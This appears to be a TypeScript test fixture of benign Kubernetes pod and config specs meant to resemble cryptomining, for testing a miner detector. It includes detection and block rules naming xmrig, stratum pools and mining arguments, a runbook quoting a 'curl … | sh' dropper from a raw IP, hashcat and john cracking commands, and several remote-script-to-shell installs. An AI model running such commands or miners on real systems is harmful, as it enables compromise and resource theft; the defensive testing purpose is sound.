import { ETH } from './wallets.ts';

const E = ETH;
const c = (fields: object) => ({
  kind: 'Pod',
  spec: { containers: [{ name: 'a', image: 'alpine', ...fields }] },
});
const sh = (script: string) => c({ command: ['sh', '-c', script] });

/** What platforms, databases, wallets of shops and security tools do that looks like mining. All are benign. */
export const LOOKALIKES: Record<string, object> = {
  rook: sh(
    'set -xe; umask 066; CEPH_CONFIG_DIR=/etc/ceph; touch /tmp/x; exec ceph-mon --fsid=abc --keyring=/etc/ceph/keyring --default-log-to-stderr=true --mon-host=$(ROOK_CEPH_MON_HOST) --foreground --public-addr=10.0.0.1',
  ),
  calicoInstall: c({
    command: ['/opt/cni/bin/install'],
    env: [
      { name: 'CNI_CONF_NAME', value: '10-calico.conflist' },
      { name: 'KUBERNETES_SERVICE_HOST', value: '10.96.0.1' },
    ],
  }),
  gpuop: sh(
    'until [ -f /run/nvidia/validations/toolkit-ready ]; do echo waiting; sleep 5; done; exec gpu-feature-discovery',
  ),
  mysqlinit: sh(`set -ex
[[ $HOSTNAME =~ -([0-9]+)$ ]] || exit 1
ordinal=\${BASH_REMATCH[1]}
echo [mysqld] > /mnt/conf.d/server-id.cnf
echo server-id=$((100 + $ordinal)) >> /mnt/conf.d/server-id.cnf
ncat --recv-only mysql-$(($ordinal-1)).mysql 3307 | xbstream -x -C /var/lib/mysql
xtrabackup --prepare --target-dir=/var/lib/mysql`),
  kafka: sh('export KAFKA_BROKER_ID=${HOSTNAME##*-} && exec /etc/confluent/docker/run'),
  zookeeper: sh(
    'start-zookeeper --servers=3 --data_dir=/var/lib/zookeeper/data --client_port=2181 --election_port=3888 --server_port=2888 --tick_time=2000 --heap=512M --max_client_cnxns=60 --log_level=INFO',
  ),
  cassandra: sh('nodetool drain -u cassandra -pw cassandra -h 10.0.0.9 -p 7199'),
  elastic: sh('sysctl -w vm.max_map_count=262144; ulimit -n 65536; chown -R 1000 /data'),
  vaultAgent: sh(
    'echo ${VAULT_CONFIG?} | base64 -d > /home/vault/config.json && vault agent -config=/home/vault/config.json',
  ),
  istioCni: c({
    args: [
      'istio-iptables',
      '-p',
      '15001',
      '-z',
      '15006',
      '-u',
      '1337',
      '-m',
      'REDIRECT',
      '-i',
      '*',
      '-x',
      '',
      '-b',
      '*',
      '-d',
      '15090,15021,15020',
    ],
  }),
  linkerd: c({
    args: [
      '--incoming-proxy-port',
      '4143',
      '--outgoing-proxy-port',
      '4140',
      '--proxy-uid',
      '2102',
      '--inbound-ports-to-ignore',
      '4190,4191,4567,4568',
    ],
  }),
  nodeLocal: c({
    args: ['-localip', '169.254.20.10', '-conf', '/etc/Corefile', '-upstreamsvc', 'kube-dns-upstream'],
  }),
  vmagent: c({ args: ['-remoteWrite.url=http://vm:8428/api/v1/write', '-promscrape.config=/c.yml'] }),
  pgpool: c({
    image: 'bitnami/pgpool:4',
    env: [
      { name: 'PGPOOL_BACKEND_NODES', value: '0:pg-0:5432,1:pg-1:5432' },
      { name: 'PGPOOL_SR_CHECK_USER', value: 'repl' },
      { name: 'PGPOOL_ADMIN_USERNAME', value: 'admin' },
    ],
  }),
  airflow: c({
    args: ['bash', '-c', 'exec airflow celery worker'],
    env: [
      { name: 'AIRFLOW__CORE__SQL_ALCHEMY_POOL_SIZE', value: '5' },
      { name: 'AIRFLOW__CELERY__WORKER_CONCURRENCY', value: '8' },
    ],
  }),
  ethWatch: c({
    image: 'org/eth-indexer',
    env: [
      { name: 'CONTRACT_ADDRESS', value: E },
      { name: 'RPC_URL', value: 'wss://mainnet.infura.io/ws/v3/abc' },
      { name: 'WALLET_PRIVATE_KEY', value: 'x' },
    ],
  }),
  wc: c({
    command: [
      'node',
      'bot.js',
      '--wallet',
      E,
      '--rpc',
      'http://geth:8545',
      '--pool',
      '0x88e6A0c2dDD26FEEb64F039a2c41296FcB3f5640',
    ],
  }),
  uniswapBot: c({
    command: ['./bot'],
    args: [
      '--pool-address',
      '0x88e6A0c2dDD26FEEb64F039a2c41296FcB3f5640',
      '--user',
      E,
      '--host',
      'rpc.ankr.com:443',
    ],
  }),
  mevBoost: c({
    command: ['mev-boost'],
    args: ['-mainnet', '-relay-check', '-relays', 'https://0xac6e@boost-relay.flashbots.net'],
  }),
  bitcoinExporter: c({
    env: [
      { name: 'BITCOIN_RPC_HOST', value: 'bitcoind:8332' },
      { name: 'BITCOIN_RPC_USER', value: 'a' },
    ],
  }),
  hashcat: sh('hashcat -m 1000 -a 3 hashes.txt ?a?a?a?a -w 3 -O -d 1'),
  john: sh('john --format=raw-sha256 --wordlist=w.txt h.txt'),
  folding: c({
    image: 'foldingathome/fah-gpu',
    args: ['--user=anon', '--team=0', '--gpu=true', '--smp=true', '--power=full'],
  }),
  boinc: c({
    image: 'boinc/client',
    env: [
      { name: 'BOINC_CMD_LINE_OPTIONS', value: '--attach_project http://p.org key --allow_remote_gui_rpc' },
    ],
  }),
  golem: c({ image: 'golemfactory/yagna' }),
  chia: c({ image: 'ghcr.io/chia-network/chia:latest', args: ['chia', 'start', 'farmer'] }),
  helium: c({ image: 'quay.io/team-helium/miner:miner-amd64_2023' }),
  filecoin: c({ command: ['lotus-miner', 'run'] }),
  syncthing: c({ command: ['syncthing', '-home', '/var/syncthing', '-no-browser', '-logflags=0'] }),
  sshd: sh(
    'mkdir -p /root/.ssh && cp /keys/authorized_keys /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys && /usr/sbin/sshd -D',
  ),
  profile: sh('echo "export PATH=$PATH:/opt/bin" >> ~/.bashrc; curl -fsSL https://deno.land/install.sh | sh'),
  devcontainer: sh(
    'curl -fsSL https://code-server.dev/install.sh | sh && nohup code-server --bind-addr 0.0.0.0:8080 >/tmp/cs.log 2>&1 & sleep infinity',
  ),
  tailscale: sh('curl -fsSL https://tailscale.com/install.sh | sh; tailscaled & tailscale up --authkey $K'),
  cronUpd: sh(
    'apk add curl; echo "*/5 * * * * curl -fsS https://hc-ping.com/abc > /dev/null" | crontab -; crond -f',
  ),
  k3s: sh('curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC="agent" K3S_URL=https://10.0.0.1:6443 sh -'),
  internalIp: sh(
    'wget -q http://10.20.30.40:8081/repository/raw/tool -O /tmp/tool && chmod +x /tmp/tool && /tmp/tool --version',
  ),
  nexus192: sh('curl -s http://192.168.1.10/install.sh | bash -s -- --yes > /dev/null 2>&1'),
  chef: sh('curl -L https://omnitruck.chef.io/install.sh | bash -s -- -v 17 && chef-client -z'),
  githubRunner: sh(
    'curl -o r.tar.gz -L https://github.com/actions/runner/releases/download/v2.321.0/actions-runner-linux-x64-2.321.0.tar.gz && tar xzf r.tar.gz && ./config.sh --url https://github.com/org --token $T --unattended && ./run.sh',
  ),
  jenkins: sh(
    'curl -sO http://jenkins:8080/jnlpJars/agent.jar && java -jar agent.jar -url http://jenkins:8080 -secret $S -name w -workDir /w',
  ),
  ansiblePull: sh('ansible-pull -U https://git.example.org/infra.git -i hosts site.yml'),
  perfTune: sh(
    'for c in /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor; do echo performance > $c; done; sleep infinity',
  ),
  scylla: sh(
    '/opt/scylladb/scripts/perftune.py --nic eth0 --mode sq_split --tune net; echo 4096 > /proc/sys/vm/nr_hugepages',
  ),
  spdk: sh('HUGEMEM=4096 /spdk/scripts/setup.sh && exec /spdk/build/bin/nvmf_tgt -m 0x3'),
  aerospike: sh('exec asd --foreground --config-file /etc/aerospike.conf'),
  rabbit: sh('rabbitmqctl add_user app pass && rabbitmqctl set_permissions -p / app ".*" ".*" ".*"'),
  telegraf: c({
    command: ['telegraf', '--config', '/t.conf'],
    env: [
      { name: 'HOST_PROC', value: '/rootfs/proc' },
      { name: 'INFLUX_URL', value: 'http://influx:8086' },
    ],
  }),
  netdata: c({
    image: 'netdata/netdata',
    command: ['/usr/sbin/netdata', '-D', '-u', 'netdata', '-s', '/host', '-p', '19999'],
  }),
  worker: c({
    command: ['./worker', '-w', '4', '-q', 'default', '-u', 'redis://redis:6379', '-p', 'prefetch'],
  }),
  oFile: c({ command: ['tool', '-o', 'json', '-u', 'https://api.example.org:8443', '-p', 'x'] }),
  sflow: c({
    command: ['./agent', '-a', 'sha256', '-o', 'logs.example.org:5000', '-u', 'agent1', '-p', '/etc/pass'],
  }),
  xCoin: c({
    command: ['./ticker', '--coin', 'monero', '--currency', 'usd', '--url', 'https://api.kraken.com'],
  }),
  graphminer: c({
    image: 'org/graph-miner',
    command: ['graph-miner', '--algorithm', 'gspan', '--threads', '8', '--wallet-size', '4'],
  }),
  minerals: c({ image: 'org/minerals-api' }),
  examiner: c({ command: ['/usr/bin/determiner', '-c', 'x'] }),
  gitMine: sh('git log --since=1.week | ./miner.py --pattern "fix"'),
  minerPy: c({ command: ['python', 'opinion_miner.py'] }),
  poolMgr: c({
    command: ['poolmanager', '--pool', 'worker.example.org:8080', '--user', 'svc', '--password', 'secret'],
  }),
  thanos: c({
    args: ['query', '--endpoint=dnssrv+_grpc._tcp.thanos-store:10901', '--query.replica-label=r'],
  }),
  sidekiq: c({ command: ['bundle', 'exec', 'sidekiq', '-c', '25', '-q', 'default,2'] }),
  etcd: c({
    command: [
      'etcd',
      '--listen-client-urls=https://127.0.0.1:2379',
      '--initial-cluster=a=https://10.0.0.1:2380',
    ],
  }),
  falcoCM: {
    kind: 'ConfigMap',
    data: {
      'falco_rules.local.yaml':
        '- macro: miner_args\n  condition: (proc.args contains "--donate-level" or proc.args contains "--algo=rx/0" or proc.args startswith "-o stratum+tcp")\n- list: pools\n  items: ["pool.supportxmr.com:3333", "xmr.2miners.com:2222"]\n',
    },
  },
  opaCM: {
    kind: 'ConfigMap',
    data: { 'policy.rego': 'deny[msg] { contains(input.args[_], "stratum+tcp://"); msg := "miner" }' },
  },
  fluentCM: {
    kind: 'ConfigMap',
    data: {
      'fluent-bit.conf':
        '[SERVICE]\n  Flush 1\n[OUTPUT]\n  Name es\n  Host es.example.org\n  Port 9200\n  HTTP_User elastic\n',
    },
  },
  nodescript: {
    kind: 'ConfigMap',
    data: {
      'index.js':
        'const blocked = ["xmrig", "stratum+tcp://"]; const cp = require("child_process"); cp.exec("ls -la"); fetch("https://api.example.org/x")',
    },
  },
  sig: {
    kind: 'ConfigMap',
    data: {
      'sigma.yml':
        'detection:\n  selection:\n    CommandLine|contains:\n      - " --cpu-priority="\n      - "--donate-level=0"\n      - " -o pool."\n      - "stratum+tcp://"\n  condition: selection\n',
    },
  },
  alertCM: {
    kind: 'ConfigMap',
    data: {
      'runbook.txt':
        'If you see `xmrig -o pool.supportxmr.com:443` kill it:\nkubectl delete pod ...\ncurl -s http://94.103.87.71/x | sh was the dropper\n',
    },
  },
  gatekeeper: {
    kind: 'K8sDenyArgs',
    spec: { parameters: { args: ['stratum+tcp://', '--donate-level', 'xmrig'], images: ['metal3d/xmrig'] } },
  },
  kubearmor: {
    kind: 'KubeArmorPolicy',
    spec: { process: { matchPaths: [{ path: '/usr/bin/xmrig' }, { path: '/tmp/xmrig' }] }, action: 'Block' },
  },
  sentry: {
    kind: 'SentryPolicy',
    spec: { indicators: { names: ['xmrig'], images: ['metal3d/xmrig'], pools: ['pool.supportxmr.com'] } },
  },
  chaos: { kind: 'StressChaos', spec: { stressors: { cpu: { workers: 8, load: 100 } } } },
  ingress: {
    kind: 'Ingress',
    metadata: {
      annotations: {
        'nginx.ingress.kubernetes.io/server-snippet': 'if ($host = pool.supportxmr.com) { return 403; }',
      },
    },
    spec: { rules: [{ host: 'xmr.pool.example.org' }] },
  },
};
